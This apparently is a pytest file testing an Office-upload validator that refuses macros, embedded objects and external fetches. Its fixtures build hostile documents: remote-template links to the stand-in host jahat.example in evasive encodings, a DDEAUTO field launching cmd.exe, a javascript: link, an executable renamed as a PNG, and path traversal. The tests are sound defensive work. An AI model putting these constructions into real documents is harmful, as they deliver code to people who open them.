"""Office files of every maker are taken; macros, hidden files and calls to strangers are found under any name or encoding."""

import io
import zipfile
from collections.abc import Callable

import pytest
from imbas_demo import papers

from lms.contract.errors import Invalid
from lms.evidence.file_validation import check_own_file
from lms.evidence.office_files import is_far
from lms.testing.hostile import BODY, RELS, TYPES, WORD, docx, relationships

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ANSWERS = {
    "": "",
    "macros": "makro",
    "embeds": "berkas lain di dalamnya",
    "fetches": "alamat lain",
    "whole": "yang utuh",
    "locked": "kata sandi",
    "old": "Office lama",
    "dangerous": "berbahaya",
}


def said(body: bytes, name: str = "rpp.docx") -> str:
    """Which of ANSWERS was given; "" when it is taken as it is."""
    try:
        kept = check_own_file(name, body, kinds=frozenset({"docx", "xlsx", "pptx"}), max_bytes=30_000_000)
    except Invalid as invalid:
        return next(key for key, words in ANSWERS.items() if key and words in invalid.text.in_("id"))
    kept.body.seek(0)
    assert kept.body.read() == body
    return ""


def relation(kind: str, target: str, *, mode: str = ' TargetMode="External"', prefix: str = R) -> str:
    return f'<Relationship Id="r1" Type="{prefix}{kind}" Target="{target}"{mode}/>'


def related(kind: str, target: str, **more: str) -> bytes:
    return docx(more={"word/_rels/document.xml.rels": relationships(relation(kind, target, **more))})


def settings(rels: str | bytes) -> bytes:
    return docx(more={"word/_rels/settings.xml.rels": rels})


def compound(*streams: str) -> bytes:
    return OLE + bytes(504) + b"".join(name.encode("utf-16-le") + bytes(64) for name in streams) + bytes(2000)


def chart(
    workbook: bytes, *, type_: str = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
) -> bytes:
    """A document with a chart, and the workbook of its figures."""
    return docx(
        types=f'<Override PartName="/word/charts/chart1.xml" ContentType="{type_}"/>'
        '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
        more={
            "word/charts/chart1.xml": "<c/>",
            "word/charts/_rels/chart1.xml.rels": relationships(
                relation("package", "../embeddings/Sheet1.xlsx", mode="")
            ),
            "word/embeddings/Sheet1.xlsx": workbook,
        },
    )


def macro_type(quote: str = '"') -> str:
    return (
        f"<Override PartName={quote}/word/data.xml{quote} "
        f"ContentType={quote}application/vnd.ms-office.vbaProject{quote}/>"
    )


ELSEWHERE = "http://jahat.example/t.dotm"
SINGLE = relationships(relation("attachedTemplate", ELSEWHERE)).replace('"', "'")
PREFIXED = (
    '<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id="a" '
    f'Type="{R}attachedTemplate" Target="{ELSEWHERE}" TargetMode="External"/></p:Relationships>'
)
ESCAPED = relationships(relation("attachedTemplate", "&#104;ttp://jahat.example/t.dotm"))
FIELD = f"<w:document {WORD}><w:body><w:p>{{}}</w:p></w:body></w:document>"
FOUND: dict[str, tuple[str, Callable[[], bytes]]] = {
    "template elsewhere": ("fetches", lambda: related("attachedTemplate", ELSEWHERE)),
    "template, strict": (
        "fetches",
        lambda: related(
            "attachedTemplate", ELSEWHERE, prefix="http://purl.oclc.org/ooxml/officeDocument/relationships/"
        ),
    ),
    "template in single quotes": ("fetches", lambda: settings(SINGLE)),
    "template under a prefix": ("fetches", lambda: settings(PREFIXED)),
    "template in UTF-16": (
        "fetches",
        lambda: settings(relationships(relation("attachedTemplate", ELSEWHERE)).encode("utf-16")),
    ),
    "template by a reference": ("fetches", lambda: settings(ESCAPED)),
    "template behind a long comment": ("fetches", lambda: settings(f"<!--{'x' * 90_000}-->{SINGLE}")),
    "template on a share": ("fetches", lambda: related("attachedTemplate", "file://jahat.example/t.dotm")),
    "template on a share, backslashes": (
        "fetches",
        lambda: related("attachedTemplate", r"\\jahat.example\t.dotm"),
    ),
    "picture on a share": ("fetches", lambda: related("image", r"file:///\\jahat.example\a.png")),
    "frame elsewhere": ("fetches", lambda: related("frame", ELSEWHERE)),
    "object elsewhere": ("fetches", lambda: related("oleObject", ELSEWHERE)),
    "macros by their name": ("macros", lambda: docx(more={"word/vbaProject.bin": b"x"})),
    "macros by their type": ("macros", lambda: docx(types=macro_type(), more={"word/data.xml": "<a/>"})),
    "macros in single quotes": (
        "macros",
        lambda: docx(types=macro_type("'"), more={"word/data.xml": "<a/>"}),
    ),
    "macros by their relationship": (
        "macros",
        lambda: docx(
            more={
                "word/x.dat": b"x",
                "word/_rels/document.xml.rels": relationships(
                    relation(
                        "vbaProject",
                        "x.dat",
                        mode="",
                        prefix="http://schemas.microsoft.com/office/2006/relationships/",
                    )
                ),
            }
        ),
    ),
    "document of macros": (
        "macros",
        lambda: _main_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "ActiveX": ("macros", lambda: related("control", "activeX/activeX1.xml", mode="")),
    "script inside": ("macros", lambda: docx(more={"word/media/a.js": "x"})),
    "program under a harmless name": ("macros", lambda: docx(more={"word/media/a.png": b"MZ" + bytes(99)})),
    "script in a link": ("macros", lambda: related("hyperlink", "javascript:alert(1)")),
    "field that starts a program": (
        "macros",
        lambda: docx(FIELD.format('<w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "x"</w:instrText></w:r>')),
    ),
    "such a field in pieces": (
        "macros",
        lambda: docx(
            FIELD.format(
                "<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E c:\\\\cmd.exe</w:instrText></w:r>"
            )
        ),
    ),
    "such a field, short": ("macros", lambda: docx(FIELD.format('<w:fldSimple w:instr="dde cmd"/>'))),
    "OLE object": ("embeds", lambda: related("oleObject", "embeddings/oleObject1.bin", mode="")),
    "OLE object without a relationship": (
        "embeds",
        lambda: docx(more={"word/media/a.png": compound("Equation")}),
    ),
    "embedded package": ("embeds", lambda: related("package", "embeddings/a.xlsx", mode="")),
    "chunk of another format": ("embeds", lambda: related("aFChunk", "a.rtf", mode="")),
    "zip inside": ("embeds", lambda: docx(more={"word/media/a.png": docx()})),
    "workbook of macros behind a chart": ("macros", lambda: chart(_workbook("xl/vbaProject.bin"))),
    "document behind a chart": ("whole", lambda: chart(docx())),
    "workbook behind no chart": ("embeds", lambda: chart(_workbook(), type_="application/xml")),
    "DTD": ("whole", lambda: docx(f"<!DOCTYPE x>{BODY}")),
    "DTD behind a comment": (
        "whole",
        lambda: docx(f"<!--{'x' * 3000}--><!DOCTYPE x [<!ENTITY a 'b'>]>{BODY}"),
    ),
    "DTD in UTF-16": ("whole", lambda: docx(f"<!DOCTYPE x [<!ENTITY a 'b'>]>{BODY}".encode("utf-16"))),
    "DTD in another part": ("whole", lambda: docx(more={"word/styles.xml": "<!DOCTYPE x><s/>"})),
    "DTD in the relationships": ("whole", lambda: settings("<!DOCTYPE x>" + SINGLE)),
    "prolog without end": ("whole", lambda: docx("<!-- -->" * 100_000 + BODY)),
    "no main part": ("whole", lambda: docx(more={"_rels/.rels": relationships()})),
    "main part that is not there": (
        "whole",
        lambda: docx(more={"_rels/.rels": RELS.format("word/gone.xml")}),
    ),
    "half": ("whole", lambda: docx()[:-200]),
    "password": ("locked", lambda: compound("EncryptionInfo", "EncryptedPackage")),
    "old Word": ("old", lambda: compound("WordDocument", "1Table")),
    "another compound file": ("whole", lambda: compound("__properties_version1.0")),
    "two parts of one name": ("dangerous", lambda: docx(more={"WORD/document.xml": "<a/>"})),
    "strays": ("dangerous", lambda: docx(more={"..\\..\\a.xml": "<a/>"})),
}


def _main_type(type_: str) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = TYPES.format("", "word/document.xml").replace(main, type_)
    return docx(more={"[Content_Types].xml": types})


def _workbook(*more: str) -> bytes:
    out = io.BytesIO(papers.sheet("Judul", "Baris"))
    with zipfile.ZipFile(out, "a") as archive:
        for name in more:
            archive.writestr(name, "x")
    return out.getvalue()


@pytest.mark.parametrize("what", FOUND)
def test_what_runs_hides_or_calls_is_refused_for_its_reason(what: str) -> None:
    wanted, make = FOUND[what]
    assert said(make()) == wanted


TAKEN: dict[str, tuple[str, Callable[[], bytes]]] = {
    "plain": ("a.docx", docx),
    "ours": ("a.docx", lambda: papers.letter("Judul", "Baris")),
    "workbook": ("a.xlsx", lambda: papers.sheet("Judul", "Baris")),
    "Word for the web": ("a.docx", lambda: docx(main="word/document2.xml")),
    "main part from the root": (
        "a.docx",
        lambda: docx(more={"_rels/.rels": RELS.format("/word/document.xml")}),
    ),
    "capitals in names": ("a.docx", lambda: docx(more={"_rels/.rels": RELS.format("Word/Document.xml")})),
    "XML in UTF-16": ("a.docx", lambda: docx(BODY.encode("utf-16"))),
    "links": ("a.docx", lambda: related("hyperlink", "https://kemdikbud.go.id")),
    "link to a share": ("a.docx", lambda: related("hyperlink", r"\\server\rapor.xlsx")),
    "picture pasted from the web": ("a.docx", lambda: related("image", "https://kemdikbud.go.id/logo.png")),
    "template of the own disk": (
        "a.docx",
        lambda: related(
            "attachedTemplate", "file:///C:/Users/Guru/AppData/Roaming/Microsoft/Templates/Normal.dotm"
        ),
    ),
    "chart": ("a.docx", lambda: chart(papers.sheet("Judul", "Baris"))),
    "fields": (
        "a.docx",
        lambda: docx(
            FIELD.format(
                '<w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:instrText>HYPERLINK "http://a/addenda"</w:instrText></w:r>'
            )
        ),
    ),
    "macros declared but not there": (
        "a.docx",
        lambda: docx(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ),
    "comment first": ("a.docx", lambda: docx(f'<?xml version="1.0"?><!-- WPS -->{BODY}')),
}


@pytest.mark.parametrize("what", TAKEN)
def test_what_people_write_is_taken(what: str) -> None:
    name, make = TAKEN[what]
    assert said(make(), name) == ""


def test_a_document_under_the_name_of_another_is_none() -> None:
    assert said(docx(), "a.xlsx") == "whole"
    assert said(papers.sheet("Judul", "Baris"), "a.docx") == "whole"


def test_links_of_a_workbook_to_a_program_are_refused() -> None:
    out = io.BytesIO(papers.sheet("Judul", "Baris"))
    spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    with zipfile.ZipFile(out) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        f'<Override PartName="/xl/externalLinks/e1.xml" ContentType="{spreadsheet}externalLink+xml"/></Types>'.encode(),
    )
    for link, wanted in (("ddeLink", "macros"), ("externalBook", "")):
        parts["xl/externalLinks/e1.xml"] = f"<externalLink><{link}/></externalLink>".encode()
        new = io.BytesIO()
        with zipfile.ZipFile(new, "w") as archive:
            for name, body in parts.items():
                archive.writestr(name, body)
        assert said(new.getvalue(), "a.xlsx") == wanted


@pytest.mark.parametrize(
    ("target", "far"),
    [
        ("file:///C:/a.dotm", False),
        ("file:/C:/a", False),
        ("C:\\a.dotm", False),
        ("../a.xml", False),
        ("a b.png", False),
        ("file://server/a", True),
        ("file:////server/a", True),
        ("file:///\\\\server\\a", True),
        ("\\\\server\\a", True),
        ("//server/a", True),
        ("HTTP://a", True),
        (" http://a", True),
        ("ftp://a", True),
        ("mhtml:http://a!x", True),
        ("ms-word:x", True),
    ],
)
def test_what_leads_off_the_disk(target: str, far: bool) -> None:
    assert is_far(target) is far
